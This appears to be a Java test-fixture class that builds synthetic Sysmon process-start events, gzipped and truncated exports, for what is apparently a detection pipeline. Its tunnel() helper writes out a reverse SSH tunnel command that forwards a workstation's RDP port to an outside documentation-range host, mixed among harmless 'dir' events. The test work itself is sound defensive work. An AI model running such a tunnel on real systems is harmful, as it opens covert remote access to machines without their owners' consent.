package dev.backflow.pipeline;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.GZIPOutputStream;

/** Small exports for tests. */
public final class Exports {
  private Exports() {}

  /** A Sysmon process start as event XML; {@code n} makes its identity. */
  public static String start(int n, String host, String image, String commandLine) {
    String escaped = commandLine.replace("&", "&amp;").replace("<", "&lt;");
    return """
        <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
        <Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>\
        <TimeCreated SystemTime='2026-03-02T08:00:00.000Z'/><EventRecordID>%d</EventRecordID>\
        <Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>%s</Computer></System>\
        <EventData><Data Name='UtcTime'>2026-03-02 08:%02d:%02d.000</Data>\
        <Data Name='ProcessGuid'>{9f3a1c52-0000-0000-0000-%012d}</Data><Data Name='ProcessId'>%d</Data>\
        <Data Name='Image'>%s</Data><Data Name='CommandLine'>%s</Data>\
        <Data Name='User'>EXAMPLE\\jo</Data><Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data>\
        <Data Name='ParentCommandLine'>cmd.exe</Data></EventData></Event>
        """
        .formatted(n, host, n / 60, n % 60, n, 1000 + n, image, escaped);
  }

  public static String tunnel(int n, String host, String server) {
    String ssh = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
    return start(n, host, ssh, "ssh.exe -N -R 4444:127.0.0.1:3389 u@" + server);
  }

  public static String harmless(int n, String host) {
    return start(n, host, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir /R");
  }

  /** A morning: forty tunnels in six cases among sixty harmless starts. */
  public static String morning() {
    StringBuilder out = new StringBuilder();
    for (int n = 0; n < 100; n++) {
      String host = "ws" + n % 3 + ".example.com";
      String server = "203.0.113." + n % 2;
      out.append(n % 5 < 2 ? tunnel(n, host, server) : harmless(n, host));
    }
    return out.toString();
  }

  public static InputStream stream(String text) {
    return new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
  }

  public static byte[] gzip(String text) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /** The first bytes of a packed export: what a copy that was cut off leaves. */
  public static InputStream cutOff(String text, int bytesMissing) {
    byte[] whole = gzip(text);
    return new ByteArrayInputStream(Arrays.copyOf(whole, whole.length - bytesMissing));
  }
}
